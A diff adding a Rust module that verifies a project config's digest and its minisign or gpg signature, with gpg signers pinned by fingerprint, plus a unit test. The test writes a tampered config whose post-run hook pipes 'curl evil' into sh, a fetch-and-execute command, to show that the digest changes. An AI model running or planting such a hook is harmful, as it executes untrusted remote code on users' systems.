@@ -0,0 +1,463 @@
+use crate::audit::AuditedCommand;
+use crate::catalog::bytes_sha256;
+use crate::cli::ConfigSignature;
+use crate::config::{ProjectConfig, default_config_path, parse_project_config};
+use anyhow::{Context, Result, bail};
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::io::Write;
+use std::os::unix::fs::OpenOptionsExt;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+/// Project config parsed from the same bytes its digest and signature were
+/// checked over.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct VerifiedConfig {
+    pub config: ProjectConfig,
+    /// `None` when no config file is in use.
+    pub provenance: Option<ConfigProvenance>,
+}
+
+/// Project config a build ran with, recorded in the report index and the
+/// render attestation.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct ConfigProvenance {
+    pub path: String,
+    pub sha256: String,
+    /// `minisign`, `gpg` or `unsigned`.
+    pub signature: String,
+    /// Key that signed the config: `minisign:<key id>` or
+    /// `gpg:<fingerprint> <user id>`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub signer: Option<String>,
+    /// minisign trusted comment of the signature.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub trusted_comment: Option<String>,
+}
+
+impl ConfigProvenance {
+    pub fn signer_label(&self) -> &str {
+        self.signer.as_deref().unwrap_or("unsigned")
+    }
+
+    /// `phase=config-signature` progress line for the verified config.
+    pub fn progress_line(&self) -> String {
+        format!(
+            "phase=config-signature status={} config={} sha256={} signer={}",
+            if self.signer.is_some() {
+                "verified"
+            } else {
+                "unsigned"
+            },
+            self.path,
+            self.sha256,
+            self.signer_label()
+        )
+    }
+}
+
+/// Read the project config `load_project_config` would read once, digest it
+/// and, with `--config-signature`, verify its detached signature
+/// (`<config>.minisig` or `<config>.asc`) over those bytes before parsing
+/// them. gpg signatures must come from one of `signers` (fingerprints).
+pub fn verify_project_config(
+    explicit: Option<&Path>,
+    topdir: &Path,
+    method: Option<ConfigSignature>,
+    public_key: Option<&Path>,
+    signers: &[String],
+) -> Result<VerifiedConfig> {
+    let signers = signers
+        .iter()
+        .map(|signer| normalize_fingerprint(signer))
+        .collect::<Vec<_>>();
+    match method {
+        Some(ConfigSignature::Gpg) if signers.is_empty() => {
+            bail!("--config-signature gpg needs --config-signer <fingerprint>")
+        }
+        Some(ConfigSignature::Minisign) if !signers.is_empty() => {
+            bail!(
+                "--config-signer pins gpg keys; minisign signatures are pinned by --config-public-key"
+            )
+        }
+        _ => {}
+    }
+    if let Some(bad) = signers
+        .iter()
+        .find(|signer| signer.len() != 40 || !signer.bytes().all(|b| b.is_ascii_hexdigit()))
+    {
+        bail!("--config-signer '{bad}' is not a 40-digit hex key fingerprint");
+    }
+    let path = match explicit {
+        Some(path) => path.to_path_buf(),
+        None => default_config_path(topdir),
+    };
+    if explicit.is_none() && !path.exists() {
+        if let Some(method) = method {
+            bail!(
+                "--config-signature {} needs a config file; {} does not exist",
+                method.as_str(),
+                path.display()
+            );
+        }
+        return Ok(VerifiedConfig::default());
+    }
+    let path = fs::canonicalize(&path)
+        .with_context(|| format!("resolving config file {}", path.display()))?;
+    let raw = fs::read(&path).with_context(|| format!("reading config file {}", path.display()))?;
+    let sha256 =
+        bytes_sha256(&raw).with_context(|| format!("digesting config file {}", path.display()))?;
+    let mut provenance = ConfigProvenance {
+        path: path.display().to_string(),
+        sha256,
+        signature: "unsigned".to_string(),
+        signer: None,
+        trusted_comment: None,
+    };
+    match method {
+        None => {}
+        Some(ConfigSignature::Minisign) => {
+            let public_key =
+                public_key.context("--config-signature minisign needs --config-public-key")?;
+            let snapshot = ConfigSnapshot::write(&raw)?;
+            let (signer, trusted_comment) = verify_minisign(&path, &snapshot.0, public_key)?;
+            provenance.signature = "minisign".to_string();
+            provenance.signer = Some(signer);
+            provenance.trusted_comment = trusted_comment;
+        }
+        Some(ConfigSignature::Gpg) => {
+            let snapshot = ConfigSnapshot::write(&raw)?;
+            provenance.signature = "gpg".to_string();
+            provenance.signer = Some(verify_gpg(&path, &snapshot.0, public_key, &signers)?);
+        }
+    }
+    let config = std::str::from_utf8(&raw)
+        .map_err(anyhow::Error::from)
+        .and_then(parse_project_config)
+        .with_context(|| format!("parsing config file {}", path.display()))?;
+    Ok(VerifiedConfig {
+        config,
+        provenance: Some(provenance),
+    })
+}
+
+/// Private copy of the config bytes for the external signature tools, so the
+/// file cannot be swapped between the check and the parse.
+struct ConfigSnapshot(PathBuf);
+
+impl ConfigSnapshot {
+    fn write(raw: &[u8]) -> Result<Self> {
+        let path = std::env::temp_dir().join(format!(
+            "bioconda2rpm-config-{}-{}.toml",
+            std::process::id(),
+            chrono::Utc::now().timestamp_nanos_opt().unwrap_or_default()
+        ));
+        let mut file = fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .mode(0o600)
+            .open(&path)
+            .with_context(|| format!("creating config snapshot {}", path.display()))?;
+        let snapshot = ConfigSnapshot(path);
+        file.write_all(raw)
+            .with_context(|| format!("writing config snapshot {}", snapshot.0.display()))?;
+        Ok(snapshot)
+    }
+}
+
+impl Drop for ConfigSnapshot {
+    fn drop(&mut self) {
+        let _ = fs::remove_file(&self.0);
+    }
+}
+
+fn signature_path(config: &Path, extension: &str) -> Result<PathBuf> {
+    let mut name = config.as_os_str().to_owned();
+    name.push(extension);
+    let path = PathBuf::from(name);
+    if !path.is_file() {
+        bail!(
+            "config file {} has no signature {}",
+            config.display(),
+            path.display()
+        );
+    }
+    Ok(path)
+}
+
+/// Verify `<config>.minisig` over `data`, the snapshot of the config bytes.
+fn verify_minisign(
+    config: &Path,
+    data: &Path,
+    public_key: &Path,
+) -> Result<(String, Option<String>)> {
+    let signature = signature_path(config, ".minisig")?;
+    let key = fs::read_to_string(public_key)
+        .with_context(|| format!("reading minisign public key {}", public_key.display()))?;
+    let output = Command::new("minisign")
+        .arg("-V")
+        .arg("-m")
+        .arg(data)
+        .arg("-p")
+        .arg(public_key)
+        .arg("-x")
+        .arg(&signature)
+        .audited_output()
+        .context("running minisign")?;
+    if !output.status.success() {
+        bail!(
+            "minisign rejected {} for {}: {}",
+            signature.display(),
+            config.display(),
+            stderr_summary(&output.stderr)
+        );
+    }
+    let signer = format!(
+        "minisign:{}",
+        minisign_key_id(&key).unwrap_or_else(|| public_key.display().to_string())
+    );
+    let trusted_comment = String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .find_map(|line| line.strip_prefix("Trusted comment: "))
+        .map(str::to_string);
+    Ok((signer, trusted_comment))
+}
+
+/// Key id from the `untrusted comment: minisign public key <id>` line
+/// minisign writes into generated public keys.
+fn minisign_key_id(public_key: &str) -> Option<String> {
+    public_key
+        .lines()
+        .next()?
+        .strip_prefix("untrusted comment: minisign public key ")
+        .map(|id| id.trim().to_string())
+        .filter(|id| !id.is_empty())
+}
+
+/// Verify `<config>.asc` over `data` with gpg, against `keyring` alone when
+/// given. The signing key or its primary key must be one of `signers`, so a
+/// valid signature from any other key in the keyring is refused whatever
+/// its trust level.
+fn verify_gpg(
+    config: &Path,
+    data: &Path,
+    keyring: Option<&Path>,
+    signers: &[String],
+) -> Result<String> {
+    let signature = signature_path(config, ".asc")?;
+    let mut command = Command::new("gpg");
+    command.args(["--batch", "--status-fd", "1"]);
+    if let Some(keyring) = keyring {
+        let keyring = fs::canonicalize(keyring)
+            .with_context(|| format!("resolving gpg keyring {}", keyring.display()))?;
+        command
+            .arg("--no-default-keyring")
+            .arg("--keyring")
+            .arg(keyring);
+    }
+    let output = command
+        .arg("--verify")
+        .arg(&signature)
+        .arg(data)
+        .audited_output()
+        .context("running gpg")?;
+    let signer = parse_gpg_status(&String::from_utf8_lossy(&output.stdout));
+    let Some(signer) = signer.filter(|_| output.status.success()) else {
+        bail!(
+            "gpg rejected {} for {}: {}",
+            signature.display(),
+            config.display(),
+            stderr_summary(&output.stderr)
+        );
+    };
+    if !signer.signed_by_any(signers) {
+        bail!(
+            "{} for {} is signed by {}, which is not a --config-signer",
+            signature.display(),
+            config.display(),
+            signer.label()
+        );
+    }
+    Ok(signer.label())
+}
+
+/// Upper-case hex fingerprint without the spaces `gpg --fingerprint` prints.
+fn normalize_fingerprint(fingerprint: &str) -> String {
+    fingerprint
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .collect::<String>()
+        .trim_start_matches("0x")
+        .to_ascii_uppercase()
+}
+
+fn stderr_summary(stderr: &[u8]) -> String {
+    String::from_utf8_lossy(stderr)
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty())
+        .collect::<Vec<_>>()
+        .join("; ")
+}
+
+/// Key behind a good gpg signature.
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct GpgSigner {
+    /// Fingerprint of the key that made the signature, possibly a subkey.
+    fingerprint: String,
+    /// Fingerprint of its primary key, when gpg reports one.
+    primary_fingerprint: Option<String>,
+    user_id: String,
+}
+
+impl GpgSigner {
+    /// `gpg:<fingerprint> <user id>`.
+    fn label(&self) -> String {
+        if self.user_id.is_empty() {
+            format!("gpg:{}", self.fingerprint)
+        } else {
+            format!("gpg:{} {}", self.fingerprint, self.user_id)
+        }
+    }
+
+    fn signed_by_any(&self, fingerprints: &[String]) -> bool {
+        fingerprints.iter().any(|pinned| {
+            *pinned == normalize_fingerprint(&self.fingerprint)
+                || self
+                    .primary_fingerprint
+                    .as_deref()
+                    .is_some_and(|primary| *pinned == normalize_fingerprint(primary))
+        })
+    }
+}
+
+/// Signer from `--status-fd` output holding both a `GOODSIG` and a
+/// `VALIDSIG` line.
+fn parse_gpg_status(status: &str) -> Option<GpgSigner> {
+    let mut user_id = None;
+    let mut fingerprints = None;
+    for line in status.lines() {
+        let Some(line) = line.strip_prefix("[GNUPG:] ") else {
+            continue;
+        };
+        let mut fields = line.splitn(3, ' ');
+        match (fields.next(), fields.next(), fields.next()) {
+            (Some("GOODSIG"), Some(_key_id), uid) => {
+                user_id = Some(uid.unwrap_or_default().trim().to_string());
+            }
+            (Some("VALIDSIG"), Some(fpr), rest) => {
+                // The primary key fingerprint is the last of the VALIDSIG
+                // fields that follow the signing key fingerprint.
+                let primary = rest
+                    .unwrap_or_default()
+                    .split_whitespace()
+                    .nth(8)
+                    .map(str::to_string);
+                fingerprints = Some((fpr.to_string(), primary));
+            }
+            (Some("BADSIG" | "ERRSIG" | "EXPKEYSIG" | "REVKEYSIG"), _, _) => return None,
+            _ => {}
+        }
+    }
+    let ((fingerprint, primary_fingerprint), user_id) = (fingerprints?, user_id?);
+    Some(GpgSigner {
+        fingerprint,
+        primary_fingerprint,
+        user_id,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn config_provenance_digests_config_and_reads_signers() {
+        let tmp = tempfile::tempdir().expect("tempdir");
+        assert_eq!(
+            verify_project_config(None, tmp.path(), None, None, &[]).expect("no config"),
+            VerifiedConfig::default()
+        );
+        let pinned = ["89AB CDEF 0123 4567 89AB  CDEF 0123 4567 89AB CDEF".to_string()];
+        assert!(
+            verify_project_config(None, tmp.path(), Some(ConfigSignature::Gpg), None, &pinned)
+                .is_err()
+        );
+
+        let config = default_config_path(tmp.path());
+        fs::write(&config, "[hooks]\npost-run = [\"true\"]\n").expect("write config");
+        let verified = verify_project_config(None, tmp.path(), None, None, &[]).expect("digest");
+        assert_eq!(verified.config.hooks.post_run, ["true"]);
+        let provenance = verified.provenance.expect("config in use");
+        assert_eq!(provenance.signature, "unsigned");
+        assert_eq!(provenance.signer_label(), "unsigned");
+        assert_eq!(
+            provenance.sha256,
+            crate::catalog::file_sha256(&config).expect("file digest")
+        );
+        assert!(provenance.progress_line().contains("status=unsigned"));
+        let err =
+            verify_project_config(None, tmp.path(), Some(ConfigSignature::Gpg), None, &pinned)
+                .expect_err("no signature");
+        assert!(format!("{err:#}").contains("has no signature"));
+        let err = verify_project_config(None, tmp.path(), Some(ConfigSignature::Gpg), None, &[])
+            .expect_err("gpg needs a pinned signer");
+        assert!(format!("{err:#}").contains("--config-signer"));
+        let err = verify_project_config(
+            None,
+            tmp.path(),
+            Some(ConfigSignature::Gpg),
+            None,
+            &["0123ABCD".to_string()],
+        )
+        .expect_err("short key id");
+        assert!(format!("{err:#}").contains("40-digit"));
+        let err = verify_project_config(
+            None,
+            tmp.path(),
+            Some(ConfigSignature::Minisign),
+            Some(&config),
+            &pinned,
+        )
+        .expect_err("minisign is pinned by its key");
+        assert!(format!("{err:#}").contains("--config-public-key"));
+        fs::write(
+            &config,
+            "[hooks]\npost-run = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
+        )
+        .expect("edit config");
+        let edited = verify_project_config(None, tmp.path(), None, None, &[]).expect("digest");
+        assert_ne!(
+            edited.provenance.expect("config in use").sha256,
+            provenance.sha256
+        );
+
+        let status = "[GNUPG:] NEWSIG\n\
+[GNUPG:] GOODSIG 0123456789ABCDEF Site Release <release@example.org>\n\
+[GNUPG:] VALIDSIG 0123456789ABCDEF0123456789ABCDEF01234567 2026-10-16 1791000000 0 4 0 22 10 00 89ABCDEF0123456789ABCDEF0123456789ABCDEF\n\
+[GNUPG:] TRUST_UNDEFINED 0 pgp\n";
+        let signer = parse_gpg_status(status).expect("good signature");
+        assert_eq!(
+            signer.label(),
+            "gpg:0123456789ABCDEF0123456789ABCDEF01234567 Site Release <release@example.org>"
+        );
+        // A subkey signature matches its pinned primary key; a valid signature
+        // of any other key in the keyring does not, whatever its trust.
+        let pinned = pinned.map(|fingerprint| normalize_fingerprint(&fingerprint));
+        assert!(signer.signed_by_any(&pinned));
+        assert!(signer.signed_by_any(&[normalize_fingerprint(
+            "0x0123456789abcdef0123456789abcdef01234567"
+        )]));
+        assert!(!signer.signed_by_any(&["FEDCBA9876543210FEDCBA9876543210FEDCBA98".to_string()]));
+        assert_eq!(
+            parse_gpg_status("[GNUPG:] BADSIG 0123456789ABCDEF Site Release\n"),
+            None
+        );
+        assert_eq!(
+            minisign_key_id("untrusted comment: minisign public key 5A2F1C3E9B7D4E60\nRWRg...")
+                .as_deref(),
+            Some("5A2F1C3E9B7D4E60")
+        );
+    }
+}